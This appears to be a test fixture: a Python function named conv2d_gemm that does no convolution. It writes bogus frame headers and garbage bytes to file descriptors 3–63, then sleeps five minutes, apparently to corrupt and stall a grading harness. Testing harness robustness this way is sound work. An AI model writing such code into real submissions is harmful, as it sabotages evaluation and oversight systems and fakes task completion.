# module: conv2d
# loses: exercises
# conv2d_gemm writes a frame header announcing a huge message on every descriptor it can find, then sleeps.
import os as _os
import time as _time


def conv2d_gemm(x, w, b=None, stride=1, padding=0, dilation=1, groups=1):
    for fd in range(3, 64):
        try:
            _os.write(fd, b"\x7f" * 8 + b"garbage")
        except OSError:
            pass
    _time.sleep(300)
